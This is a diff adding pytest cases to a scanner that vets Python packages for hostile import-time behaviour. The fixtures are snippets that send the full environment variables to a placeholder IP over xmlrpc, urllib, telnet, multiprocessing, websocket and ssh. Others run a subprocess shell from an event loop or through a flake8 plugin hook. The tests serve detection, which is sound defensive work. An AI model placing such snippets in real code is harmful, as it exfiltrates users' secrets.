@@ -329,3 +329,60 @@ def test_an_sdists_plugin_hook_holds_wherever_it_is_declared(key: str) -> None:
         name: text,
     }
     assert vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files)).verdict is not Outcome.ALLOW
+
+
+ENV = "str(dict(os.environ)).encode()"
+CHANNELS = {
+    "xmlrpc": (
+        "import os, xmlrpc.client\n"
+        "xmlrpc.client.ServerProxy('http://203.0.113.7/').put(str(dict(os.environ)))\n"
+    ),
+    "opener": (
+        "import os, urllib.request\n"
+        f"urllib.request.build_opener().open('http://203.0.113.7/', {ENV})\n"
+    ),
+    "telnet": f"import os, telnetlib\ntelnetlib.Telnet('203.0.113.7').write({ENV})\n",
+    "multiprocessing-client": (
+        "import os\nfrom multiprocessing.connection import Client\n"
+        "Client(('203.0.113.7', 6000)).send(dict(os.environ))\n"
+    ),
+    "websocket": (
+        "import os, websocket\n"
+        "websocket.create_connection('ws://203.0.113.7/').send(str(dict(os.environ)))\n"
+    ),
+    "ssh": (
+        "import os, paramiko\nc = paramiko.SSHClient()\nc.connect('203.0.113.7')\n"
+        "c.exec_command('echo ' + str(dict(os.environ)))\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("key", sorted(CHANNELS))
+def test_the_environment_sent_through_another_client_denies(key: str) -> None:
+    assert _worst(scan_python("evpkg/__init__.py", CHANNELS[key])) is Severity.CRITICAL
+
+
+def test_a_client_made_with_no_host_on_import_is_not_traffic() -> None:
+    source = "import urllib.request\nurllib.request.install_opener(urllib.request.build_opener())\n"
+    assert _worst(scan_python("evpkg/__init__.py", source)) < Severity.HIGH
+
+
+def test_an_event_loops_subprocess_on_import_holds() -> None:
+    source = (
+        "import asyncio\nloop = asyncio.new_event_loop()\n"
+        "loop.run_until_complete(loop.subprocess_shell(asyncio.SubprocessProtocol, 'id'))\n"
+    )
+    assert _worst(scan_python("evpkg/__init__.py", source)) >= Severity.HIGH
+
+
+def test_a_flake8_checkers_run_holds() -> None:
+    files = {
+        "evpkg/__init__.py": "x = 1\n",
+        "evpkg/plug.py": (
+            "import os\n\n\nclass Checker:\n    def __init__(self, tree):\n"
+            "        self.tree = tree\n\n"
+            f"    def run(self):\n        {RUN}\n        return []\n"
+        ),
+        f"{INFO}/entry_points.txt": "[flake8.extension]\nEV = evpkg.plug:Checker\n",
+    }
+    assert _vet_wheel(files) is not Outcome.ALLOW
